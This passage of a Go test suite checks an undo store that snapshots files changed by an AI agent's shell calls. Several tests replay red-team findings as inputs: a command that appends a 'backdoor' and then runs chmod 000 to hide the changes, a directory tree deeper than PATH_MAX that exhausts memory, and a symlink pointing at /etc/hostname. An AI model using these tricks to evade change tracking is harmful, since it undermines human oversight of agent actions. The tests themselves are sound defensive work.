	// and removed.
	dead := filepath.Join(dir, presenceDir, "999999-dead")
	if err := os.WriteFile(dead, nil, 0o600); err != nil {
		t.Fatal(err)
	}
	if cs := call(a, "dead", nil); cs.Shared {
		t.Fatalf("a dead session's file counted: %+v", cs)
	}
	if _, err := os.Stat(dead); !errors.Is(err, os.ErrNotExist) {
		t.Fatalf("a dead session's file is still there: %v", err)
	}
	// Closing removes the store's own file.
	a.Close()
	if left, _ := os.ReadDir(filepath.Join(dir, presenceDir)); len(left) != 0 {
		t.Fatalf("presence files left after every session closed: %v", left)
	}
}

// TestWarmAfterACallsSnapshotWaitsForNothing: the session's warm-up
// snapshot, overtaken by its first call's, neither snapshots again nor
// waits for the store's lock — held here by another open of it, as by
// another brig — and so never holds the mutex the call's snapshot after
// needs before its result goes to the model. The control: a store that
// has snapshotted nothing does wait for that lock (its ctx ends the
// wait).
func TestWarmAfterACallsSnapshotWaitsForNothing(t *testing.T) {
	r := newRig(t)
	r.write("a.txt", "a\n", 0o644)
	other, err := os.OpenFile(filepath.Join(r.dir, lockName), os.O_RDWR, 0)
	if err != nil {
		t.Fatal(err)
	}
	defer other.Close()
	hold := func() {
		t.Helper()
		if err := unix.Flock(int(other.Fd()), unix.LOCK_EX|unix.LOCK_NB); err != nil {
			t.Fatal(err)
		}
	}

	// Control: nothing snapshotted yet, so Warm waits for the lock.
	hold()
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if err := r.store.Warm(ctx, []string{r.ws}); !errors.Is(err, context.Canceled) {
		t.Fatalf("Warm of a store that snapshotted nothing, its lock held elsewhere: %v, want it to wait (ended by its ctx)", err)
	}
	if err := unix.Flock(int(other.Fd()), unix.LOCK_UN); err != nil {
		t.Fatal(err)
	}

	p, err := r.store.Before(context.Background(), "s", "c1", "bash", []string{r.ws})
	if err != nil {
		t.Fatal(err)
	}
	hold()
	// A ctx that ends only if Warm waits: a guard against a hang, not a budget.
	ctx, cancel = context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	if err := r.store.Warm(ctx, []string{r.ws}); err != nil {
		t.Fatalf("Warm after the call's snapshot, the lock held elsewhere: %v, want it to return at once", err)
	}
	if err := unix.Flock(int(other.Fd()), unix.LOCK_UN); err != nil {
		t.Fatal(err)
	}
	if _, err := p.After(context.Background()); err != nil {
		t.Fatal(err)
	}
}

// TestUndoDryRunListsWhatItWouldRestore: a dry run changes nothing and
// lists each path the undo would put back, as the undo itself then does;
// a refused undo lists them beside its conflicts.
func TestUndoDryRunListsWhatItWouldRestore(t *testing.T) {
	r := newRig(t)
	r.seed()
	r.call(`echo more >> README.md && rm run.sh && echo n > new.txt && chmod 700 empty`)
	mid := treetest.Read(t, r.ws)
	list := func(rep *UndoReport) []string {
		var out []string
		for _, c := range rep.Changes {
			out = append(out, string(c.Kind)+" "+strings.TrimPrefix(c.Path, r.ws+"/"))
		}
		slices.Sort(out)
		return out
	}
	want := []string{"created run.sh", "deleted new.txt", "mode empty", "modified README.md"}
	dry := r.mustUndo(UndoOptions{DryRun: true})
	if dry.Applied || !slices.Equal(list(dry), want) {
		t.Fatalf("dry run: applied %v, changes %q; want %q", dry.Applied, list(dry), want)
	}
	if d := treetest.Diff(mid, treetest.Read(t, r.ws)); d != "" {
		t.Fatalf("a dry run changed files:\n%s", d)
	}
	r.write("README.md", "the user's edit\n", 0o644)
	refused, err := r.undo(UndoOptions{})
	if !errors.Is(err, ErrConflict) || len(refused.Conflicts) != 1 || !slices.Equal(list(refused), want) {
		t.Fatalf("refused undo: %v, conflicts %+v, changes %q", err, refused.Conflicts, list(refused))
	}
	done := r.mustUndo(UndoOptions{Force: true})
	if !done.Applied || !slices.Equal(list(done), want) {
		t.Fatalf("the undo did %q; the dry run said %q", list(done), want)
	}
}

// TestSparseFilesAreNotCopied: a call that makes sparse files (a byte of
// data in 63 MiB) costs itself a few KiB; a copy in the store would cost
// the whole size each. They are recorded without their content, and the
// store grows by little. Control: a dense file of 2 MiB is stored.
func TestSparseFilesAreNotCopied(t *testing.T) {
	r := newRig(t)
	for i := range 4 {
		f, err := os.Create(filepath.Join(r.ws, fmt.Sprintf("hole%d.img", i)))
		if err != nil {
			t.Fatal(err)
		}
		if _, err := f.WriteAt([]byte{byte(i)}, 63<<20-1); err != nil {
			t.Fatal(err)
		}
		f.Close()
	}
	var st unix.Stat_t
	if err := unix.Stat(filepath.Join(r.ws, "hole0.img"), &st); err != nil || st.Blocks*512 >= st.Size/8 {
		t.Skipf("the file system does not keep holes (%d blocks for %d bytes): the case proves nothing", st.Blocks, st.Size)
	}
	r.write("dense.bin", strings.Repeat("d", 2<<20), 0o644)
	waitNotRacy(t, r.ws)
	p, err := r.store.Before(context.Background(), "s", "c", "bash", []string{r.ws})
	if err != nil {
		t.Fatal(err)
	}
	sn := p.Snapshot()
	if len(sn.NotStored) != 4 || !strings.Contains(sn.NotStored[0].Why, "sparse") {
		t.Errorf("not stored: %+v; want the four sparse files", sn.NotStored)
	}
	if sn.Stored < 2<<20 || sn.Stored > 3<<20 {
		t.Errorf("the snapshot stored %d bytes; want the dense file's 2 MiB and little more", sn.Stored)
	}
}

// TestChmodDoesNotHideChanges: a call that changes what is in a directory
// and then makes it unreadable (chmod 000) shows every change, and undo
// puts every file back, also for a user who is not root (red team, round
// 5: as uid 1000 the change list showed only "mode src", and undo said the
// files were as before while the backdoored main.go stayed). The
// directory's mode is recorded as the call left it, and is put back.
func TestChmodDoesNotHideChanges(t *testing.T) {
	r := newRig(t)
	r.seed()
	before := treetest.Read(t, r.ws)
	cs := r.call(`echo backdoor >> src/main.go && echo new > src/new.go && rm src/lib/util.go && chmod 000 src`)
	var paths []string
	for _, c := range cs.Changes {
		paths = append(paths, c.Path)
	}
	for _, want := range []string{"src/main.go", "src/new.go", "src/lib/util.go"} {
		if !slices.Contains(paths, filepath.Join(r.ws, want)) {
			t.Errorf("the change list lacks %s: %v", want, paths)
		}
	}
	st, err := os.Stat(filepath.Join(r.ws, "src"))
	if err != nil || st.Mode().Perm() != 0 {
		t.Fatalf("the walk did not put src's mode back: %v %v", st.Mode(), err)
	}
	r.mustUndo(UndoOptions{})
	if d := treetest.Diff(before, treetest.Read(t, r.ws)); d != "" {
		t.Fatalf("not restored:\n%s", d)
	}
}

// TestDeepTreeIsBounded: a chain of nested directories whose path goes
// past maxWalkPath is recorded down to there, and nothing below is
// walked: each level held its path while
// the levels below were read, and 3,000 levels of 250-character names
// held the supervisor at 5.8 GB (red team, round 5). Control: a change
// just above the bound is undone as usual.
func TestDeepTreeIsBounded(t *testing.T) {
	r := newRig(t)
	r.seed()
	name := strings.Repeat("d", 250)
	levels := maxWalkPath/251 + 8
	// Made from the deepest level's parent down, by descriptor: the
	// path is longer than PATH_MAX.
	fd, err := unix.Open(r.ws, unix.O_RDONLY|unix.O_DIRECTORY, 0)
	if err != nil {
		t.Fatal(err)
	}
	for range levels {
		if err := unix.Mkdirat(fd, name, 0o755); err != nil {
			t.Fatal(err)
		}
		next, err := unix.Openat(fd, name, unix.O_RDONLY|unix.O_DIRECTORY, 0)
		unix.Close(fd)
		if err != nil {
			t.Fatal(err)
		}
		fd = next
	}
	unix.Close(fd)
	t.Cleanup(func() { removeDeep(t, r.ws, name) })
	r.callOn("true") // the deep tree is in the before-snapshot of the next call
	shallow := filepath.Join(r.ws, name, name, "f")
	cs := r.call("echo x > " + shallow)
	found := false
	for _, c := range cs.Changes {
		found = found || c.Path == shallow
	}
	if !found {
		t.Fatalf("a change just below the workspace is not listed: %+v", cs.Changes)
	}
	r.mustUndo(UndoOptions{})
	if _, err := os.Stat(shallow); !os.IsNotExist(err) {
		t.Fatalf("control: the shallow change was not undone: %v", err)
	}
	// A file made at the bottom is not walked to (README: Limits; the
	// boundary directory's own stat does not change with it).
	cs = r.call(fmt.Sprintf(`python3 -c 'import os
for _ in range(%d): os.chdir("%s")
open("deep.txt", "w").write("x")'`, levels, name))
	for _, c := range cs.Changes {
		if strings.HasSuffix(c.Path, "/deep.txt") {
			t.Fatalf("the walk went below the bound: %s", c.Path[len(c.Path)-40:])
		}
	}
}

// removeDeep removes a chain of directories named name under root, deeper
// than PATH_MAX, by descriptor.
func removeDeep(t *testing.T, root, name string) {
	t.Helper()
	var fds []int
	fd, err := unix.Open(root, unix.O_RDONLY|unix.O_DIRECTORY, 0)
	for err == nil {
		fds = append(fds, fd)
		fd, err = unix.Openat(fd, name, unix.O_RDONLY|unix.O_DIRECTORY, 0)
	}
	for i := len(fds) - 1; i >= 0; i-- {
		if i < len(fds)-1 {
			_ = unix.Unlinkat(fds[i], name, unix.AT_REMOVEDIR)
		}
		unix.Close(fds[i])
	}
}

// TestSummaryCountsEachFileOnce: changes of one kind say so in one phrase
// ("1 file created"), not "1 file changed, 1 created", which reads as two
// files; mixed ones say the total, then the kinds.
func TestSummaryCountsEachFileOnce(t *testing.T) {
	for _, c := range []struct {
		cs   ChangeSet
		want string
	}{
		{ChangeSet{Created: 1}, "1 file created"},
		{ChangeSet{Deleted: 2}, "2 files deleted"},
		{ChangeSet{Modified: 1}, "1 file changed"},
		{ChangeSet{Modified: 1, Deleted: 1}, "2 files changed, 1 deleted"},
		{ChangeSet{Created: 1, DirsCreated: 1}, "1 file created, 1 directory created"},
		{ChangeSet{}, "no files changed"},
		// New user, 2026-12-03: "no files changed, __pycache__ changed"
		// read as a contradiction.
		{ChangeSet{ExcludedChanged: []string{"/ws/__pycache__", "/ws/.pytest_cache"}}, "only .pytest_cache, __pycache__ changed (not covered by undo)"},
		{ChangeSet{Modified: 1, ExcludedChanged: []string{"/ws/__pycache__"}}, "1 file changed, __pycache__ changed (not covered by undo)"},
	} {
		if got := c.cs.Summary(); got != c.want {
			t.Errorf("%+v: %q, want %q", c.cs, got, c.want)
		}
	}
}

// TestForcedUndoSaysALinksTarget (red team, 2026-12-03): a path the user
// made a symbolic link after the call is named with its target, not copied
// as a link (which would point outside and which cp follows); the control,
// a file, is copied.
func TestForcedUndoSaysALinksTarget(t *testing.T) {
	r := newRig(t)
	r.seed()
	r.call(`echo by-brig >> README.md && echo new > other.txt`)
	if err := os.Remove(filepath.Join(r.ws, "README.md")); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("/etc/hostname", filepath.Join(r.ws, "README.md")); err != nil {
		t.Fatal(err)
	}
	r.write("other.txt", "the user's\n", 0o644)
	rep := r.mustUndo(UndoOptions{Force: true})
	got := map[string]Conflict{}
	for _, c := range rep.Conflicts {
		got[strings.TrimPrefix(c.Path, r.ws+"/")] = c
	}
	if c := got["README.md"]; c.Link != "/etc/hostname" || c.Kept != "" {
		t.Errorf("the link: %+v", c)
	}
	if c := got["other.txt"]; c.Kept == "" || c.Link != "" {
		t.Errorf("the control file: %+v", c)
	}
	err := filepath.WalkDir(filepath.Join(r.store.Dir(), OverwrittenDir), func(p string, d fs.DirEntry, err error) error {
		if err == nil && d.Type()&fs.ModeSymlink != 0 {
			t.Errorf("a link among the copies: %s", p)
		}
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
}

// TestSnapshotLeavesTheDiskRoom (red team, 2026-12-03): the store is never
// pruned, and a call can make files that cost it little and the store
// their whole size, so a snapshot stores nothing that would take the free
// space of the store's file system below MinFree: such a file is recorded
// without its content, saying why. The control: with the floor well below
// the free space, the same file is stored.
func TestSnapshotLeavesTheDiskRoom(t *testing.T) {
	r := newRig(t)
	var fs unix.Statfs_t
	if err := unix.Statfs(r.dir, &fs); err != nil {
		t.Fatal(err)
	}
	free := int64(fs.Bavail) * fs.Bsize
	r.write("dense.bin", strings.Repeat("d", 2<<20), 0o644)
	waitNotRacy(t, r.ws)
	for _, c := range []struct {
		minFree int64
		stored  bool
	}{{free + 1<<30, false}, {1 << 20, true}} {
		r.store.Close()
		s, err := Open(r.dir, Options{MinFree: c.minFree})
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { s.Close() })
		r.store = s
		p, err := s.Before(context.Background(), "s", "c", "bash", []string{r.ws})
		if err != nil {
			t.Fatal(err)
		}
		sn := p.Snapshot()
		if stored := len(sn.NotStored) == 0 && sn.Stored >= 2<<20; stored != c.stored {
			t.Errorf("MinFree %d of %d free: stored %v (%d bytes, not stored %+v), want %v", c.minFree, free, stored, sn.Stored, sn.NotStored, c.stored)
		}
		if !c.stored && (len(sn.NotStored) != 1 || !strings.Contains(sn.NotStored[0].Why, "free on the disk")) {
			t.Errorf("not stored: %+v; want dense.bin, saying why", sn.NotStored)
		}
	}
	// The store's own bound: one past which nothing more is kept. The
	// control above stored the file; a new one does not fit.
	r.store.Close()
	s, err := Open(r.dir, Options{MaxStoreBytes: 3 << 20})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { s.Close() })
	r.write("more.bin", strings.Repeat("m", 2<<20), 0o644)
	waitNotRacy(t, r.ws)
	p, err := s.Before(context.Background(), "s", "c2", "bash", []string{r.ws})
	if err != nil {
		t.Fatal(err)
	}
	if sn := p.Snapshot(); len(sn.NotStored) != 1 || !strings.Contains(sn.NotStored[0].Why, "undo store holds 3 MiB") {
		t.Errorf("past MaxStoreBytes, not stored: %+v; want more.bin, saying why", sn.NotStored)
	}
}
